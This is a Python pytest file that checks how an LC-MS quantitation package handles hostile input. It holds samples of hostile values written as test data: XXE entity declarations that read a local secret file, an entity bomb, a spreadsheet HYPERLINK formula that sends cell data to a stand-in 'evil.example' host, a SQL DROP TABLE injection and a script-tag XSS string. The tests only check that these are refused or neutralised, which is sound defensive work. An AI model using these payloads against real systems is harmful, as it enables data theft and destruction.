"""Hostile files and faults (issue 14): each ends in a clear message naming the file and what to
do, with nothing leaked, nothing hanging and earlier results intact.

The batch, report and cohort kinds live in test_hostile_report.py and test_hostile_cohort.py;
the kinds that already held before (damaged mzML, worklist cells, method types) are in
test_bad_input.py. docs/hostile-input.md lists every kind with its outcome.
"""

from __future__ import annotations

import os
import shutil
import threading
from pathlib import Path

import pandas as pd
import pytest

from lcmsquant.batch import load_batch
from lcmsquant.files import InputError, csv_text, not_a_file, read_csv_rows, restore_text, spreadsheet_safe
from lcmsquant.measure import measure_injection
from lcmsquant.method import default_method_path, load_method
from lcmsquant.pipeline import run_batch
from lcmsquant.results import LOCK_FILE, read_results, write_outputs
from lcmsquant.runs import process_batch
from lcmsquant.simulate import SimulationOptions, simulate_batch
from lcmsquant.validation import ResultsError, isr_runs, read_validation_run

SECRET = "PATIENT-SECRET-4711"


@pytest.fixture(scope="module")
def small_batch(tmp_path_factory) -> Path:
    """A simulated batch with study samples of three subjects, never modified (copy it)."""
    folder = tmp_path_factory.mktemp("hostile") / "batch"
    simulate_batch(folder, seed=5, options=SimulationOptions(n_unknowns=6))
    return folder


@pytest.fixture
def batch_copy(small_batch, tmp_path) -> Path:
    return Path(shutil.copytree(small_batch, tmp_path / "batch"))


@pytest.fixture(scope="module")
def method():
    return load_method(default_method_path())


def _problems(call) -> str:
    with pytest.raises(InputError) as caught:
        call()
    return "\n".join(caught.value.problems)


def _worklist(folder: Path) -> pd.DataFrame:
    return pd.read_csv(folder / "worklist.csv", dtype=str, keep_default_na=False)


def _first_unknown(table: pd.DataFrame) -> int:
    return int(table.index[table["sample_type"] == "unknown"][0])


# ---------------------------------------------------------------------------------------------
# 1. XML entities and DTDs never reach the C++ parser


def _with_doctype(source: Path, target: Path, doctype: str) -> Path:
    data = source.read_text(encoding="utf-8")
    head, rest = data.split("\n", 1)  # the XML declaration stays first
    body = rest.replace("<mzML ", '<mzML data="&leak;" ', 1)
    target.write_text(f"{head}\n{doctype}\n{body}", encoding="utf-8")
    return target


def test_an_external_entity_is_refused_and_its_file_never_read(small_batch, method, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    victim = _with_doctype(
        small_batch / "007_CAL5.mzML",
        tmp_path / "inj.mzML",
        f'<!DOCTYPE mzML [<!ENTITY leak SYSTEM "file://{secret}">]>',
    )
    rows, error = measure_injection(victim, method)
    assert {r["status"] for r in rows} == {"NO_DATA"}
    assert error.startswith("inj.mzML: not a readable mzML file (a DOCTYPE declaration at line 2")
    assert SECRET not in error


def test_a_dtd_beside_the_file_is_not_read(small_batch, method, tmp_path):
    (tmp_path / "evil.dtd").write_text(f'<!ENTITY leak "{SECRET}">')
    victim = _with_doctype(small_batch / "007_CAL5.mzML", tmp_path / "inj.mzML", '<!DOCTYPE mzML SYSTEM "evil.dtd">')
    rows, error = measure_injection(victim, method)
    assert {r["status"] for r in rows} == {"NO_DATA"} and "DOCTYPE" in error and SECRET not in error


def test_an_entity_naming_a_fifo_does_not_hang(small_batch, method, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    victim = _with_doctype(
        small_batch / "007_CAL5.mzML", tmp_path / "inj.mzML", f'<!DOCTYPE mzML [<!ENTITY leak SYSTEM "{fifo}">]>'
    )
    done: list = []
    worker = threading.Thread(target=lambda: done.append(measure_injection(victim, method)), daemon=True)
    worker.start()
    worker.join(60)
    if worker.is_alive():  # free the reader so the test process can end, then fail
        with open(fifo, "w"):
            pass
        pytest.fail("reading an mzML whose entity names a FIFO hangs")
    rows, error = done[0]
    assert {r["status"] for r in rows} == {"NO_DATA"} and "DOCTYPE" in error


def test_an_entity_bomb_is_refused(small_batch, method, tmp_path):
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))
    victim = _with_doctype(
        small_batch / "007_CAL5.mzML", tmp_path / "inj.mzML", f'<!DOCTYPE mzML [{laughs}<!ENTITY leak "&l9;">]>'
    )
    rows, error = measure_injection(victim, method)
    assert {r["status"] for r in rows} == {"NO_DATA"} and "DOCTYPE" in error


def test_a_doctype_injection_leaves_the_rest_of_the_batch_measured(batch_copy, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    _with_doctype(
        batch_copy / "007_CAL5.mzML",
        tmp_path / "evil.mzML",
        f'<!DOCTYPE mzML [<!ENTITY leak SYSTEM "file://{secret}">]>',
    )
    shutil.move(tmp_path / "evil.mzML", batch_copy / "007_CAL5.mzML")
    outcome = process_batch(batch_copy, report=False)
    assert outcome.ok and len(outcome.injection_errors) == 1
    written = "".join(p.read_text(encoding="utf-8") for p in (batch_copy / "results").glob("*.*"))
    assert "DOCTYPE declaration" in written and SECRET not in written
    results = pd.read_csv(batch_copy / "results" / "results.csv")
    assert results.loc[results["sample_type"] == "unknown", "area"].notna().any()


# ---------------------------------------------------------------------------------------------
# 2. Spreadsheet formulas are written as text


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB"]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_that_would_start_a_formula_gets_an_apostrophe_and_reads_back(value):
    written = spreadsheet_safe(value)
    assert written == "'" + value and restore_text(written) == value


@pytest.mark.parametrize("value", ["-0.5", "+3", "1e-3", "", "flumatinib", "'quoted", "BLQ;ION_RATIO"])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value and restore_text(value) == value


def test_an_apostrophe_before_a_formula_sign_survives_the_round_trip():
    for value in ["'=1", "''", "'-x"]:
        assert restore_text(spreadsheet_safe(value)) == value


def test_csv_text_neutralises_text_cells_and_keeps_numbers():
    table = pd.DataFrame({"sample_id": ["=1+1", "S1"], "area": [-1.5, 2.0]})
    assert csv_text(table) == "sample_id,area\n'=1+1,-1.5\nS1,2.0\n"


def test_a_formula_in_the_worklist_is_inert_in_every_table_and_reads_back(batch_copy):
    table = _worklist(batch_copy)
    row = _first_unknown(table)
    formula = FORMULAS[0]
    table.loc[row, "sample_id"] = formula
    table.to_csv(batch_copy / "worklist.csv", index=False)
    batch, result = run_batch(batch_copy)
    out = batch_copy / "results"
    write_outputs(batch, result, out)
    for name in ("results.csv", "peaks.csv", "audit.csv", "reanalysis.csv"):
        cells = [c for line in (out / name).read_text(encoding="utf-8").splitlines() for c in line.split(",")]
        assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells), name
    assert "'=HYPERLINK" in (out / "results.csv").read_text(encoding="utf-8")
    assert formula in set(read_results(out).results["sample_id"])


# ---------------------------------------------------------------------------------------------
# 5. The results lock never follows a link


def test_a_lock_file_that_is_a_symlink_is_refused_and_its_target_untouched(batch_copy, tmp_path):
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    (batch_copy / "results").mkdir()
    (batch_copy / "results" / LOCK_FILE).symlink_to(target)
    outcome = process_batch(batch_copy, report=False)
    assert outcome.bad_input and f"{LOCK_FILE} is a symbolic link" in outcome.error and "remove" in outcome.error
    assert target.read_text() == "keep me"
    assert sorted(p.name for p in (batch_copy / "results").iterdir()) == [LOCK_FILE]


def test_a_lock_file_that_is_a_fifo_is_refused_without_hanging(batch_copy):
    (batch_copy / "results").mkdir()
    os.mkfifo(batch_copy / "results" / LOCK_FILE)
    outcome = process_batch(batch_copy, report=False)
    assert outcome.bad_input and "is a FIFO (named pipe)" in outcome.error


# ---------------------------------------------------------------------------------------------
# 7. Method values: finite and plausible


@pytest.mark.parametrize(
    "table, setting, problem",
    [
        ("integration", "rt_window = nan", "[integration].rt_window: expected a finite number, got nan"),
        ("integration", "rt_window = inf", "[integration].rt_window: expected a finite number, got inf"),
        (
            "acceptance",
            "calibrator_tolerance_pct = 1e9",
            "[acceptance].calibrator_tolerance_pct: 1000000000.0 is outside the plausible range 0.1 to 100 %",
        ),
        (
            "acceptance",
            "min_calibrator_levels = 6.5",
            "[acceptance].min_calibrator_levels: expected a whole number, got 6.5",
        ),
        ("identity", "rt_tolerance = 30", "[identity].rt_tolerance: 30 is outside the plausible range 0.001 to 10 min"),
    ],
)
def test_nan_inf_and_absurd_method_values_are_refused_naming_the_key(table, setting, problem, tmp_path):
    text = default_method_path().read_text(encoding="utf-8")
    key = setting.split(" = ")[0]
    lines = [line for line in text.splitlines() if not line.startswith(f"{key} =")]
    at = next(i for i, line in enumerate(lines) if line.split("#")[0].strip() == f"[{table}]")
    path = tmp_path / "method.toml"
    path.write_text("\n".join([*lines[: at + 1], setting, *lines[at + 1 :]]) + "\n", encoding="utf-8")
    assert problem in _problems(lambda: load_method(path))


def test_a_nan_nominal_or_an_underscore_number_in_calibrators_csv_is_refused(batch_copy, method):
    (batch_copy / "calibrators.csv").write_text(
        "level,analyte,nominal\nCAL1,flumatinib,nan\nCAL2,flumatinib,1_000\nCAL3,flumatinib,inf\n"
    )
    problems = _problems(lambda: load_batch(batch_copy, method))
    for line, value in ((2, "nan"), (3, "1_000"), (4, "inf")):
        assert f"calibrators.csv line {line}: nominal '{value}' is not a positive number" in problems


# ---------------------------------------------------------------------------------------------
# 8. Other inputs


def test_an_empty_calibrators_csv_is_a_clear_error_not_a_fault(batch_copy, invoke):
    (batch_copy / "calibrators.csv").write_bytes(b"")
    done = invoke("run", batch_copy)
    assert done.exit_code == 2, done.stderr
    assert "calibrators.csv is empty: it needs a header `level,analyte,nominal`" in done.stderr
    assert "Traceback" not in done.stderr and "please report" not in done.stderr
    assert not (batch_copy / "results").exists()


def test_a_calibrator_problem_is_reported_once_however_many_matrices_share_the_set(batch_copy, method):
    table = _worklist(batch_copy)
    assert table["matrix"].nunique() > 1
    nominals = pd.read_csv(method.calibrator_sets[0].source, dtype=str)
    nominals[~nominals["level"].isin(["LQC"])].to_csv(batch_copy / "calibrators.csv", index=False)
    problems = _problems(lambda: load_batch(batch_copy, method)).splitlines()
    assert problems and len(problems) == len(set(problems))


def test_a_line_break_inside_a_quoted_worklist_field_is_refused_with_its_line(batch_copy, method):
    lines = (batch_copy / "worklist.csv").read_text().splitlines()
    fields = lines[3].split(",")
    fields[1] = f'"{fields[1]}\nsecond line"'
    lines[3] = ",".join(fields)
    fields = lines[5].split(",")
    fields[4] = "brain"
    lines[5] = ",".join(fields)
    (batch_copy / "worklist.csv").write_text("\n".join(lines) + "\n")
    problems = _problems(lambda: load_batch(batch_copy, method))
    assert problems == "worklist.csv line 4, field 2: a line break inside the value: remove it"
    lines[3] = lines[3].replace("\nsecond line", "")
    (batch_copy / "worklist.csv").write_text("\n".join(lines) + "\n")
    assert "worklist.csv line 6: unknown matrix 'brain'" in _problems(lambda: load_batch(batch_copy, method))


def test_record_line_numbers_count_the_lines_of_a_multi_line_record(tmp_path):
    path = tmp_path / "overrides.csv"
    path.write_text('file,reason\n\na.mzML,"one\ntwo"\nb.mzML,ok\n')
    with pytest.raises(InputError) as caught:
        read_csv_rows(path, InputError)
    assert caught.value.problems == ["overrides.csv line 3, field 2: a line break inside the value: remove it"]
    path.write_text("file,reason\n\na.mzML,one\n\nb.mzML,ok\n")
    assert read_csv_rows(path, InputError)[1] == [(3, ["a.mzML", "one"]), (5, ["b.mzML", "ok"])]


@pytest.mark.parametrize("char, words", [("\0", "U+0000"), ("\x1b", "U+001B")])
def test_nul_and_control_characters_in_the_worklist_are_refused(char, words, batch_copy, method):
    table = _worklist(batch_copy)
    table.loc[_first_unknown(table), "subject_id"] += char
    table.to_csv(batch_copy / "worklist.csv", index=False)
    line = _first_unknown(table) + 2
    assert f"worklist.csv line {line}, field 6: the control character {words} inside the value: remove it" in _problems(
        lambda: load_batch(batch_copy, method)
    )


@pytest.mark.parametrize("value", ["1_000", "nan", "inf", "0x10", "10 000"])
def test_a_dilution_factor_is_a_plain_decimal_number(value, batch_copy, method):
    table = _worklist(batch_copy)
    row = _first_unknown(table)
    table.loc[row, "dilution_factor"] = value
    table.to_csv(batch_copy / "worklist.csv", index=False)
    assert f"dilution_factor '{value}' is not a positive number" in _problems(lambda: load_batch(batch_copy, method))


@pytest.mark.parametrize("kind", ["fifo", "folder"])
def test_an_injection_that_is_not_a_regular_file_is_named_for_what_it_is(kind, batch_copy, method):
    victim = batch_copy / "007_CAL5.mzML"
    victim.unlink()
    os.mkfifo(victim) if kind == "fifo" else victim.mkdir()
    expected = "is a FIFO (named pipe), not a regular file" if kind == "fifo" else "is a folder, not a file"
    assert f"file '007_CAL5.mzML' {expected}" in _problems(lambda: load_batch(batch_copy, method))


@pytest.mark.parametrize("name", ["worklist.csv", "calibrators.csv", "overrides.csv"])
def test_a_batch_file_that_is_a_fifo_is_refused_without_reading_it(name, batch_copy, method):
    (batch_copy / name).unlink(missing_ok=True)
    os.mkfifo(batch_copy / name)
    assert f"{name} is a FIFO (named pipe), not a regular file" in _problems(lambda: load_batch(batch_copy, method))


def test_a_method_file_that_is_a_fifo_is_refused_without_reading_it(tmp_path):
    os.mkfifo(tmp_path / "method.toml")
    assert "the method file is a FIFO (named pipe), not a regular file" in _problems(
        lambda: load_method(tmp_path / "method.toml")
    )


def test_not_a_file_says_what_is_there(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "plain").write_text("x")
    assert not_a_file(tmp_path / "plain") == ""
    assert not_a_file(tmp_path / "missing") == "does not exist"
    assert not_a_file(tmp_path) == "is a folder, not a file"
    assert not_a_file(tmp_path / "pipe") == "is a FIFO (named pipe), not a regular file"
    assert not_a_file("/dev/null") == "is a character device, not a regular file"


def test_out_naming_a_file_is_refused_and_the_file_untouched(small_batch, tmp_path, invoke):
    target = tmp_path / "notes.txt"
    target.write_text("mine")
    done = invoke("run", small_batch, "--out", target)
    assert done.exit_code == 2
    assert f"--out {target} is a regular file, not a folder: give a folder (it is created if missing)" in done.stderr
    assert "File exists" not in done.stderr and "Traceback" not in done.stderr
    assert target.read_text() == "mine" and not (small_batch / "results").exists()


# ---------------------------------------------------------------------------------------------
# 9. ISR needs a new analysis


@pytest.fixture(scope="module")
def processed(small_batch, tmp_path_factory):
    out = tmp_path_factory.mktemp("processed") / "results"
    batch, result = run_batch(small_batch)
    write_outputs(batch, result, out)
    return out


def test_isr_of_a_run_against_itself_is_refused(processed):
    run = read_validation_run(processed)
    with pytest.raises(ResultsError, match="is given as both original and repeat"):
        isr_runs([run], [run])


def test_isr_of_a_copy_of_the_original_run_is_refused_naming_its_files(processed, tmp_path):
    copy = Path(shutil.copytree(processed, tmp_path / "copy"))
    with pytest.raises(
        ResultsError, match=r"measured \d+ injection file\(s\) of the original .*an ISR repeat is a new analysis"
    ):
        isr_runs([read_validation_run(processed)], [read_validation_run(copy)])


def test_isr_cli_with_the_same_folder_twice_exits_2_and_writes_nothing(processed, tmp_path, invoke):
    done = invoke("isr", processed, processed, "--out", tmp_path)
    assert done.exit_code == 2 and "given as both original and repeat" in done.stderr
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------
# Kinds that held before issue 14 and must stay held: markup and SQL in worklist text


@pytest.fixture(scope="module")
def hostile_run(small_batch, tmp_path_factory, invoke):
    """The small batch with markup in one sample id and a formula and SQL in one subject id, run
    by the CLI (report included) and added to a cohort."""
    folder = Path(shutil.copytree(small_batch, tmp_path_factory.mktemp("hostile-run") / "batch"))
    table = _worklist(folder)
    subject = table.loc[_first_unknown(table), "subject_id"]
    rows = table["subject_id"] == subject
    table.loc[rows, "subject_id"] = "=1+1'); DROP TABLE analyses;--"
    table.loc[_first_unknown(table), "sample_id"] = "<script>alert(1)</script>"
    table.to_csv(folder / "worklist.csv", index=False)
    assert invoke("run", folder).exit_code == 0
    db = folder.parent / "cohort.sqlite"
    added = invoke("cohort", "add", folder / "results", "--db", db)
    assert added.exit_code == 0, added.stderr
    exported = invoke("cohort", "export", "--db", db, "--format", "csv", "--out", folder.parent / "export")
    assert exported.exit_code == 0, exported.stderr
    return folder, db


def test_markup_in_a_sample_id_is_escaped_in_the_report(hostile_run):
    folder, _ = hostile_run
    html = (folder / "results" / "report.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert(1)" not in html


def test_sql_in_a_subject_id_is_stored_as_text_and_exported_inert(hostile_run, invoke):
    folder, db = hostile_run
    exported = folder.parent / "export" / "cohort_results.csv"
    text = exported.read_text(encoding="utf-8")
    assert "'=1+1'); DROP TABLE analyses;--" in text
    assert "=1+1'); DROP TABLE analyses;--" in set(pd.read_csv(exported, dtype=str)["subject_id"].map(restore_text))
    again = invoke("cohort", "export", "--db", db, "--format", "csv", "--out", folder.parent / "again")
    assert again.exit_code == 0 and (folder.parent / "again" / "cohort_results.csv").read_text(encoding="utf-8") == text
